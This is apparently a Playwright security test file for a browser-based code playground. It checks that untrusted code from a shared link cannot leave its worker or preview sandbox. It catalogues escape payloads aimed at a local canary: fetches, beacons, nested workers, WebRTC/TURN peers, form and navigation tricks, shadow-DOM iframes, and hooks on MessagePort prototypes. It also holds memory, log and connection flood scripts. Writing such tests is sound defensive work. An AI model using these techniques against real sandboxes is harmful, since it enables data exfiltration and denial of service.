/** Code from a link that means harm: every way out that is known, each tried and found closed. */
import { type Canary, startCanary } from "./support/canary.ts";
import { expect, test } from "./support/playground.ts";

let canary: Canary;
test.beforeEach(async () => {
  canary = await startCanary();
});
test.afterEach(async () => {
  await canary.close();
});

/** What code in the worker could try. Each is a body that throws, rejects or gives "blocked" when it is closed. */
const fromTheWorker: Readonly<Record<string, string>> = {
  XMLHttpRequest: `return new Promise((resolve) => { const x = new XMLHttpRequest(); x.open("GET", out); x.onerror = () => resolve("blocked"); x.onload = () => resolve("open"); x.send(); });`,
  importScripts: `importScripts(out); return "open";`,
  "import()": `await import(out); return "open";`,
  "import() of data": `const data = "data:text/javascript,1"; await import(data); return "open";`,
  EventSource: `return new Promise((resolve) => { const e = new EventSource(out); e.onerror = () => resolve("blocked"); e.onopen = () => resolve("open"); });`,
  "the platform's WebSocket": `const Platform = Object.getPrototypeOf(new (self.Native ?? class {})).constructor; return new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob(['const s = new WebSocket("' + out.replace("http", "ws") + '"); s.onerror = () => postMessage("blocked"); s.onopen = () => postMessage("open")']))); w.onmessage = ({ data }) => resolve(data); w.onerror = () => resolve("blocked"); });`,
  "fetch of a nested worker": `return new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + out + '").then(() => postMessage("open"), () => postMessage("blocked"))']))); w.onmessage = ({ data }) => resolve(data); w.onerror = () => resolve("blocked"); });`,
  "a worker from elsewhere": `return new Promise((resolve) => { const w = new Worker(out); w.onerror = () => resolve("blocked"); w.onmessage = () => resolve("open"); });`,
  WebTransport: `await new WebTransport(out.replace("http", "https")).ready; return "open";`,
  eval: `return eval('"open"');`,
  "the host's database": `indexedDB.open("x"); return "open";`,
  "the host's caches": `await caches.open("x"); return "open";`,
  "the host's storage": `await navigator.storage.getDirectory(); return "open";`,
  "the host's channels": `new BroadcastChannel("portico-test").postMessage("out"); return "blocked";`,
  "the host's service worker": `await navigator.serviceWorker.register("/offline.js"); return "open";`,
  "the address of the host": `return self.location.href.includes("127.0.0.1") || self.origin !== "null" ? "open" : "blocked";`,
};

for (const policy of ["the page's policy and its frame's", "its frame's policy alone"])
  test(`no way leads out of the worker: ${policy}`, async ({ playground, page, complaints }) => {
    if (policy.startsWith("its"))
      await page.route(playground.url, async (route) => {
        const response = await route.fetch();
        const { "content-security-policy": _, ...headers } = response.headers();
        const body = (await response.text()).replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
        await route.fulfill({ response, headers, body });
      });
    await playground.open();
    await page.evaluate(() => {
      new BroadcastChannel("portico-test").onmessage = () => console.error("a channel leaked");
    });
    const out = `http://127.0.0.1:${canary.port}/leak`;
    const attempts = Object.entries(fromTheWorker).map(
      ([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`,
    );
    await playground.run(`const out = ${JSON.stringify(out)};
const attempts = { ${attempts.join(",\n")} };
for (const [name, attempt] of Object.entries(attempts)) {
  const late = new Promise((resolve) => setTimeout(resolve, 1500, "blocked"));
  console.log(name + ": " + (await Promise.race([attempt().catch(() => "blocked"), late])));
}
console.log("all were tried");`);
    const output = playground.region("Console");
    await expect(output).toContainText("all were tried", { timeout: 40_000 });
    const lines = (await output.getByRole("log").innerText())
      .split("\n")
      .filter((line) => /: (open|blocked)$/.test(line));
    expect(lines).toEqual(Object.keys(fromTheWorker).map((name) => `${name}: blocked`));
    expect(canary.heard).toEqual([]);
    expect(complaints.filter((text) => text.includes("leaked"))).toEqual([]);
    complaints.length = 0; // what the policy refused, it told the console of
  });

/** What a page in the preview could try. */
const fromThePreview: Readonly<Record<string, string>> = {
  "a script's fetch": `fetch(out)`,
  "a beacon": `navigator.sendBeacon(out, "x")`,
  "an image": `new Image().src = out`,
  "going elsewhere": `location = out`,
  "replacing itself": `location.replace(out)`,
  "leading the top away": `top.location = out`,
  "leading the host away": `parent.location.href = out`,
  "a window of its own": `window.open(out)`,
  "a link to the top": `Object.assign(document.createElement("a"), { href: out, target: "_top" }).click()`,
  "a form": `const f = document.createElement("form"); f.action = out; f.target = "_top"; document.body.append(f); HTMLFormElement.prototype.submit.call(f)`,
  "a form in its place": `const f = document.createElement("form"); f.action = out; document.body.append(f); HTMLFormElement.prototype.submit.call(f)`,
  "a form with a button": `document.body.innerHTML += '<form action="' + out + '" target="_blank"><button>x</button></form>'; document.querySelector("button").click()`,
  "the playground's own network": `parent.postMessage({ type: "fetch", url: out, method: "GET", headers: [] }, "*", [new MessageChannel().port2]); new WebSocket(out.replace("http", "ws"))`,
  "a refresh": `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + out }))`,
  "a frame": `document.body.append(Object.assign(document.createElement("iframe"), { src: out }))`,
  "an object": `document.body.append(Object.assign(document.createElement("object"), { data: out }))`,
  "a style sheet": `document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: out }))`,
  "a prefetch": `document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: out }))`,
  "a preconnect": `document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: out }))`,
  "a worker": `new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "')"])))`,
  "the host's document": `parent.document.body.remove()`,
  "a peer connection": `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + new URL(out).port }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`,
  "a frame's peer connection": `const f = document.createElement("iframe"); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + new URL(out).port }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`,
  "a peer connection of a frame's own script": `document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: peer }))`,
  "one in a shadow tree": `document.body.attachShadow({ mode: "closed" }).append(Object.assign(document.createElement("iframe"), { srcdoc: peer }))`,
  "one that is written into a shadow tree, peers and all": `document.write("<div><template shadowrootmode=closed>"); setTimeout(() => document.write("<iframe srcdoc='" + peer + "'></iframe>"))`,
  "one that an address makes, peers and all": `document.body.append(Object.assign(document.createElement("iframe"), { src: "javascript:" + peer.slice(8, -9) }))`,
};

/** The document of a frame that connects by TURN over TCP. */
const PEER = `<script>const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1:PORT?transport=tcp", username: "a", credential: "b" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))</script>`;

test("no way leads out of the preview", async ({ playground, page, complaints }) => {
  test.setTimeout(150_000);
  await playground.open();
  const host = page.url();
  const out = `http://127.0.0.1:${canary.port}/leak`;
  const peer = PEER.replace("PORT", String(canary.port));
  const pages = Object.values(fromThePreview).map(
    (script) =>
      `<!doctype html><h1>Trying</h1><script>const out = ${JSON.stringify(out)}, peer = ${JSON.stringify(peer).replace("</", "<\\/")}; addEventListener("load", () => { document.querySelector("h1").textContent = "Tried"; ${script} });</script>`,
  );
  await playground.run(`import { AsyncHttpServer } from "portico";
const pages: string[] = ${JSON.stringify(pages).replaceAll("</", "<\\/")};
new AsyncHttpServer().serve(8123, (request) =>
  request.respond(200, pages[Number(request.url.pathname.slice(1))] ?? "none", { "Content-Type": "text/html" }));`);
  await expect(playground.region("Response")).toContainText("200 OK");
  for (const [index, name] of Object.keys(fromThePreview).entries()) {
    await page.getByLabel("Address").fill(`/${index}`);
    await playground.button("Open").click();
    const leaves = /elsewhere|replacing|refresh|form|shadow/.test(name);
    const heading = playground.region("Preview").frameLocator("iframe").getByRole("heading");
    if (!leaves) await expect(heading, name).toHaveText("Tried");
    await page.waitForTimeout(name.includes("peer") ? 1500 : 400); // time to do harm in
    expect(canary.heard, name).toEqual([]);
    expect(page.url(), name).toBe(host);
    await expect(playground.region("Editor"), name).toBeVisible();
    expect(page.context().pages(), name).toHaveLength(1);
  }
  complaints.length = 0;
});

test("code from a link does not run before somebody says so", async ({ playground, page }) => {
  await playground.open();
  await playground.write('console.log("it ran");');
  await playground.button("Share").click();
  await expect(page).toHaveURL(/#v1\./);
  const link = page.url();
  await page.goto("about:blank");
  await page.goto(link);
  await expect(page.getByRole("alert")).toContainText("is not running");
  await expect(playground.button("Send")).toBeDisabled();
  await page.getByLabel("Path").press("Enter");
  await page.getByLabel("Method").press("Enter");
  await expect(playground.region("Console")).not.toContainText("it ran");
  expect(page.frames()).toHaveLength(1);
  await playground.button("Run").click();
  await expect(playground.region("Console")).toContainText("it ran");
});

test("a link that is followed while Run waits for an engine does not run instead", async ({
  playground,
  page,
}) => {
  await playground.open();
  await playground.write('console.log("it ran");');
  await playground.button("Share").click();
  await expect(page).toHaveURL(/#v1\./);
  const { hash } = new URL(page.url());
  await page.goto("about:blank");
  await playground.open();
  let answer = () => {};
  const asked = new Promise<void>((resolve) => {
    answer = resolve;
  });
  await page.route("**/engines.json", async (route) => {
    await asked;
    await route.fulfill({ json: {} });
  });
  await page.getByRole("combobox", { name: "Runs on" }).selectOption("service worker");
  await expect(playground.status()).toHaveText("service worker engine: opening");
  await playground.run();
  await page.evaluate((link) => {
    location.hash = link;
  }, hash);
  await expect(page.getByRole("alert")).toContainText("is not running");
  answer();
  await expect(playground.status()).toHaveText(/page engine: ready/);
  await page.waitForTimeout(500); // time to run in
  await expect(playground.region("Console")).not.toContainText("it ran");
  expect(page.workers()).toHaveLength(0);
});

test("an endless loop is ended by Stop, and by the watchdog", async ({ playground, page }) => {
  await playground.open();
  await playground.run('console.log("before"); setTimeout(() => { for (;;); }, 50);');
  await expect(playground.region("Console")).toContainText("before");
  await expect.poll(() => page.workers().length).toBe(1);
  await playground.button("Stop").click();
  await expect(playground.status()).toHaveText(/ready/);
  await expect.poll(() => page.workers().length).toBe(0);
  await playground.run("for (;;);");
  await expect(playground.region("Console")).toContainText("was ended: it did not answer", {
    timeout: 15_000,
  });
  await expect(playground.status()).toHaveText(/ended/);
  await expect.poll(() => page.workers().length).toBe(0);
});

/** How long the page takes for a click to have its effect. */
async function clickMs(playground: import("./support/playground.ts").Playground): Promise<number> {
  const started = Date.now();
  await playground.button("Raw bytes").click();
  await playground.button("Form").click();
  return Date.now() - started;
}

/** How a program can get hold of what the sandbox talks to the page with. */
const THE_LINK = `const own = MessagePort.prototype.postMessage, found: MessagePort[] = [];
MessagePort.prototype.postMessage = function (this: MessagePort, ...said: any[]) { if (said[0]?.[0] === "connect") found.push(this); return (own as any).apply(this, said); };
await fetch("http://localhost:1/").catch(() => {});
MessagePort.prototype.postMessage = own;
const link = found[0]!;`;

const THE_CONTROL = `const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data")!;
let found = (_: MessagePort) => {};
const heard = new Promise<MessagePort>((resolve) => { found = resolve; });
Object.defineProperty(MessageEvent.prototype, "data", { get(this: MessageEvent) { const data = get!.call(this); if (data?.type === "ping") found(this.target as MessagePort); return data; } });
const control = await heard;`;

const floods: Readonly<Record<string, string>> = {
  "of logs":
    'setInterval(() => { for (let i = 0; i < 1e5; i++) console.log("flood", i, "x".repeat(100)); }, 0);',
  "of logs without a pause": 'for (;;) console.log("flood");',
  "of errors":
    'setInterval(() => { for (let i = 0; i < 100; i++) Promise.reject(new Error("flood " + i)); }, 0);',
  "of messages": "setInterval(() => { for (let i = 0; i < 1e4; i++) postMessage({ i }); }, 0);",
  "of memory":
    "const kept: unknown[] = []; setInterval(() => { kept.push(new Float64Array(4e6).fill(1)); }, 0);",
  "of connections":
    'setInterval(() => { for (let i = 0; i < 200; i++) fetch("http://localhost:1/").catch(() => {}); }, 0);',
  "of pings": `${THE_LINK} setInterval(() => { for (let i = 0; i < 1e4; i++) link.postMessage(["ping"]); }, 0);`,
  "of reports": `${THE_CONTROL} setInterval(() => { for (let i = 0; i < 1e4; i++) control.postMessage({ type: "pong" }); }, 0);`,
  "of connections over the bare link": `${THE_LINK} setInterval(() => { for (let i = 1; i < 1000; i++) { const { port1 } = new MessageChannel(); link.postMessage(["connect", "localhost", 1, i, port1], [port1]); } }, 0);`,
  "of ports":
    'import { defaultNetwork } from "portico"; setInterval(() => { for (let i = 0; i < 100; i++) defaultNetwork.listen({ port: 0 }).catch(() => {}); }, 0);',
};

for (const [name, code] of Object.entries(floods)) {
  test(`a flood ${name} leaves the page usable`, async ({ playground, page, complaints }) => {
    await playground.open();
    await playground.run(code);
    await page.waitForTimeout(1500); // the flood rises
    const ms = await clickMs(playground);
    expect(ms).toBeLessThan(3000);
    if (await playground.button("Stop").isEnabled()) await playground.button("Stop").click();
    await expect(playground.status()).toHaveText(/ready|ended/);
    await expect.poll(() => page.workers().length).toBe(0);
    await playground.example().selectOption("hello");
    await page.evaluate(() => {
      location.hash = "";
    });
    await playground.run('console.log("still here");');
    await expect(playground.region("Console")).toContainText("still here");
    complaints.length = 0;
  });
}

for (const [name, script] of Object.entries({
  "to other pages":
    'parent.postMessage({ type: "open", url: "/?" + i, method: "GET" }, "*", [new MessageChannel().port2])',
  "to itself": 'parent.postMessage("ready", "*")',
})) {
  test(`a page that leads ${name} without end leaves the playground usable`, async ({
    playground,
    page,
    complaints,
  }) => {
    await playground.open();
    const flood = `<h1>Flood</h1><script>setInterval(() => { for (let i = 0; i < 200; i++) ${script}; }, 10)</script>`;
    await playground.run(`import { AsyncHttpServer } from "portico";
new AsyncHttpServer().serve(8123, (request) => request.respond(200, ${JSON.stringify(flood).replace("</s", "<\\/s")}, { "Content-Type": "text/html" }));`);
    await expect(playground.region("Response")).toContainText("200 OK");
    await page.waitForTimeout(1500); // the flood rises
    expect(await clickMs(playground)).toBeLessThan(3000);
    await playground.button("Stop").click();
    complaints.length = 0;
  });
}
